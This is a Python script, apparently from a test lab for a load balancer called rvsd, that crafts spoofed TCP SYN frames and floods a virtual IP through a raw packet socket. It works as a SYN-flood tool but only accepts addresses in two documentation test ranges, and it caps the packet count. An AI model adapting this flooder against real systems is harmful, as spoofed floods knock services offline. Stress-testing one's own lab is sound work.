#!/usr/bin/env python3
"""Spoofed TCP SYN flood for the rvs lab (stdlib only; root, inside the client namespace).

usage: synflood.py --iface cl0 --dst-mac MAC --vip 198.51.100.100 [--port 80]
                   [--sources 198.51.100.20-198.51.100.250] [--flows 100000]
                   [--count 100000] [--seconds 20] [--rate PPS] [--started-file F]

Builds FLOWS Ethernet frames, each a TCP SYN to VIP:PORT from a source address of the range
(spoofed) and a random port, to DST-MAC (rvsd's port), then sends them through an AF_PACKET
socket on IFACE over and over, at most PPS frames a second (as fast as the socket takes them
without --rate), until COUNT frames are sent or SECONDS have passed. F is created when the sending starts. Only addresses of the lab's own
test ranges are accepted. Prints one JSON object: {"sent", "seconds", "pps", "distinct_flows"}.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

from ipip_probe import csum, ipv4

ALLOWED = [ipaddress.ip_network(n) for n in ("198.51.100.0/24", "203.0.113.0/24")]
MAX_COUNT = 2_000_000


def allowed(addr):
    return any(addr in n for n in ALLOWED)


def source_range(text):
    lo, _, hi = text.partition("-")
    lo = ipaddress.ip_address(lo)
    hi = ipaddress.ip_address(hi or lo)
    if not (allowed(lo) and allowed(hi)) or int(hi) < int(lo):
        raise argparse.ArgumentTypeError(f"sources must lie in {ALLOWED}: {text}")
    return [str(ipaddress.ip_address(a)) for a in range(int(lo), int(hi) + 1)]


def mac(text):
    parts = text.split(":")
    if len(parts) != 6:
        raise argparse.ArgumentTypeError(f"not a MAC address: {text}")
    return bytes(int(p, 16) for p in parts)


def frames(a, src_mac):
    vip = socket.inet_aton(a.vip)
    rng = random.Random(a.seed)
    seen = set()
    out = []
    eth = a.dst_mac + src_mac + b"\x08\x00"
    for i in range(a.flows):
        src = rng.choice(a.sources)
        sport = rng.randrange(1024, 65536)
        seen.add((src, sport))
        tcp = struct.pack("!HHIIBBHHH", sport, a.port, rng.getrandbits(32), 0, 5 << 4, 0x02,
                          64240, 0, 0)
        pseudo = socket.inet_aton(src) + vip + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        out.append(eth + ipv4(src, a.vip, 6, tcp, ident=i & 0xFFFF))
    return out, len(seen)


def main():
    ap = argparse.ArgumentParser(description="spoofed SYN flood for the rvs lab")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", type=mac, required=True)
    ap.add_argument("--vip", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--sources", type=source_range, default=source_range(
        "198.51.100.101-198.51.100.250"))
    ap.add_argument("--flows", type=int, default=100000)
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--rate", type=int, default=0, help="frames per second, 0: no limit")
    ap.add_argument("--started-file")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if not allowed(ipaddress.ip_address(a.vip)):
        raise SystemExit(f"synflood.py: VIP must lie in {ALLOWED}")
    if not (1 <= a.count <= MAX_COUNT and 1 <= a.flows <= MAX_COUNT):
        raise SystemExit(f"synflood.py: count and flows must be 1..{MAX_COUNT}")
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.iface, 0))
    src_mac = sock.getsockname()[4]
    built, distinct = frames(a, src_mac)
    if a.started_file:
        with open(a.started_file, "w") as f:
            f.write("sending\n")
    sent = 0
    t0 = time.monotonic()
    deadline = t0 + a.seconds
    while sent < a.count and time.monotonic() < deadline:
        for f in built[: a.count - sent]:
            try:
                sock.send(f)
            except BlockingIOError:
                continue
            sent += 1
            if sent % 256 == 0:
                now = time.monotonic()
                if now > deadline:
                    break
                if a.rate > 0:
                    ahead = t0 + sent / a.rate - now
                    if ahead > 0:
                        time.sleep(ahead)
    took = time.monotonic() - t0
    sock.close()
    print(json.dumps({"sent": sent, "seconds": round(took, 3),
                      "pps": round(sent / took) if took > 0 else 0,
                      "distinct_flows": distinct}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
